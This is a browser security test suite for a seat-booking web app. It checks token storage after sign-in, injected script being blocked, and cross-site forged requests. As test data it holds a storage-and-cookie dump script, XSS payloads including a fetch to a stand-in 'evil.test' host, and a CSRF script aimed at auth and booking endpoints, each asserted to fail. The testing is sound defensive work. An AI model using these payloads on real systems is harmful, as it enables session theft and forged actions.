"""A real browser: what it keeps after a sign-in, and what a page of another site makes of it."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, Route, expect

from tests.browser import launched, person
from tests.running import IN_MODULE_LOOP, Running, booked, eventually, served

pytestmark = [IN_MODULE_LOOP, pytest.mark.browser]

server = served(background_work="off", rate_limits="off")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with launched() as browser:
        yield browser


DUMP = """async () => {
  const stored = {};
  for (const storage of [localStorage, sessionStorage])
    for (const key of Object.keys(storage)) stored[key] = storage.getItem(key);
  const found = {
    stored,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    window: Object.keys(window).filter((key) => typeof window[key] === "string")
      .map((key) => window[key]),
    markup: document.documentElement.outerHTML,
    address: location.href,
    state: history.state,
    name: window.name,
  };
  return JSON.stringify(found);
}"""


async def test_after_a_sign_in_no_token_lies_about(browser: Browser, server: Running) -> None:
    showtime = await server.showtime()
    async with person(browser, server, None) as bob:
        tokens: list[str] = []

        async def listen(route: Route) -> None:
            answer = await route.fetch()
            tokens.extend(value for name, value in _secrets(await answer.text()))
            await route.fulfill(response=answer)

        await bob.page.route("**/api/auth/refresh", listen)
        await bob.page.goto(f"{server.url}/api/auth/google/login?login_hint=bob@example.com")
        await bob.open(showtime)
        await bob.click("A1")
        await bob.sees("mine", "A1")
        await eventually(lambda: _is_there(tokens))
        found = await bob.page.evaluate(DUMP)
        cookies = {cookie["name"]: cookie for cookie in await bob.page.context.cookies()}
        refresh = cookies["rowlock_refresh"]
        assert (refresh["httpOnly"], refresh["sameSite"]) == (True, "Strict")
        assert all(cookie["httpOnly"] for cookie in cookies.values())
        for secret in (*tokens, *(cookie["value"] for cookie in cookies.values())):
            assert secret not in found
        assert "eyJ" not in found
        assert json.loads(found)["cookies"] == ""
        assert json.loads(found)["databases"] == json.loads(found)["caches"] == []


async def _is_there(tokens: list[str]) -> list[str]:
    return tokens


def _secrets(text: str) -> list[tuple[str, str]]:
    body = json.loads(text) if text.startswith("{") else {}
    return [(name, body[name]) for name in ("access_token",) if name in body]


async def test_script_that_gets_into_the_page_does_not_run(
    browser: Browser, server: Running
) -> None:
    """What an attacker would put there: markup by string, inline script, style, other origins."""
    tries = """() => {
      const refused = [];
      const attempt = (name, work) => { try { work(); } catch { refused.push(name); } };
      const holder = document.createElement("div");
      attempt("innerHTML", () => { holder.innerHTML = "<img src=x onerror='window.ran = 1'>"; });
      attempt("outerHTML", () => { document.body.outerHTML = "<body onload='window.ran = 1'>"; });
      attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>"));
      attempt("document.write", () => document.write("<script>window.ran = 1</" + "script>"));
      attempt("DOMParser", () => new DOMParser().parseFromString("<b>", "text/html"));
      attempt("script.text", () => { document.createElement("script").text = "window.ran = 1"; });
      attempt("script.src", () => { document.createElement("script").src = "https://evil.test"; });
      attempt("srcdoc", () => { document.createElement("iframe").srcdoc = "<b>"; });
      const button = document.createElement("button");
      attempt("setAttribute", () => button.setAttribute("onclick", "window.ran = 1"));
      button.click();
      return refused;
    }"""
    async with person(browser, server, None) as mallory:
        await mallory.page.goto(server.url)
        refused = await mallory.page.evaluate(tries)
        expected = {"innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "DOMParser"}
        assert {*refused} >= expected | {"script.text", "script.src", "srcdoc"}
        assert await mallory.page.evaluate("() => window.ran") is None
        reached = "() => fetch('https://evil.test/?x').then(() => 'there', () => 'refused')"
        assert await mallory.page.evaluate(reached) == "refused"
        assert mallory.complaints
        for said in mallory.complaints:
            assert "Content Security Policy" in said or "Trusted" in said
        mallory.complaints.clear()


FORM = """
<form id=plain method=post enctype=text/plain action="{url}{path}">
<input name='{{"x":"' value='"}}'></form>
<form id=form method=post action="{url}{path}"><input name=x value=y></form>
<iframe name=frame></iframe>
"""

ATTACK = """async ({ url, paths }) => {
  const out = [];
  const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
  for (const path of paths) {
    for (const mode of ["no-cors", "cors"]) for (const type of types)
      for (const method of ["POST", "DELETE"]) {
        try {
          const answer = await fetch(url + path, {
            method, mode, credentials: "include", headers: { "Content-Type": type }, body: "{}",
          });
          out.push(answer.type === "opaque" ? "opaque" : answer.status);
        } catch { out.push("refused"); }
      }
    navigator.sendBeacon(url + path, "{}");
    navigator.sendBeacon(url + path, new Blob(["{}"], { type: "text/plain" }));
  }
  const socket = new WebSocket(url.replace("http", "ws") + paths.at(-1));
  out.push(await new Promise((done) => {
    socket.onmessage = () => done("heard");
    socket.onclose = ({ code }) => done(code);
  }));
  return out;
}"""


@asynccontextmanager
async def another_site(page: str) -> AsyncIterator[str]:
    """A server of somebody else with this one page. `localhost` is not the site `127.0.0.1`."""
    body = page.encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(head.encode() + b"Connection: close\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as listening:
        yield f"http://localhost:{listening.sockets[0].getsockname()[1]}/"


async def test_a_page_of_another_site_does_nothing(
    browser: Browser, server: Running, caplog: pytest.LogCaptureFixture
) -> None:
    showtime = await server.showtime()
    booking = await booked(server.bob, showtime, "A1")
    paths = [
        "/api/auth/refresh",
        "/api/auth/logout",
        "/api/auth/sessions",
        f"/api/showtimes/{showtime}/seats/lock",
        f"/api/bookings/{booking}",
        f"/api/showtimes/{showtime}/live",
    ]
    page = FORM.format(url=server.url, path=paths[1])
    async with person(browser, server, "bob") as bob, another_site(page) as site:
        await expect(bob.page.locator("site-header")).to_contain_text("Bob")
        context = bob.page.context
        cookie = [c for c in await context.cookies() if c["name"] == "rowlock_refresh"]
        # As if the browser knew no SameSite: the cookie rides along wherever it can.
        await context.clear_cookies(name="rowlock_refresh")
        loose = {**cookie[0], "sameSite": "None", "secure": True, "path": "/"}
        await context.add_cookies([loose])  # type: ignore[list-item]
        before = await server.stored.digest()
        caplog.set_level("INFO", "rowlock.access")
        caplog.clear()
        evil = await context.new_page()
        await evil.goto(site)
        out = await evil.evaluate(ATTACK, {"url": server.url, "paths": paths})
        assert {*out} <= {"opaque", "refused", 1008}
        assert out[-1] == 1008
        for form in ("plain", "form"):
            await evil.goto(site)
            async with evil.expect_navigation():
                await evil.evaluate(f"() => document.getElementById('{form}').submit()")
            assert '"status": 403' in await evil.content()
        await evil.goto(site)
        assert not await _shows_framed(evil, server.url)
        assert await server.stored.digest() == before
        arrived = [record.getMessage() for record in caplog.records]
        assert sum(line.startswith("POST /api/auth/logout 403 ") for line in arrived) >= 4
        assert not [line for line in arrived if line.startswith("POST") and " 403 " not in line]
        bob.complaints.clear()


async def _shows_framed(page: Page, url: str) -> bool:
    """Say whether our page shows inside a page of another site."""
    await page.evaluate(f"() => {{ document.querySelector('iframe').src = '{url}/'; }}")
    frame = page.frame(name="frame")
    assert frame is not None
    await frame.wait_for_load_state()
    try:
        return await frame.locator("site-header").count() > 0
    except Exception:
        return False
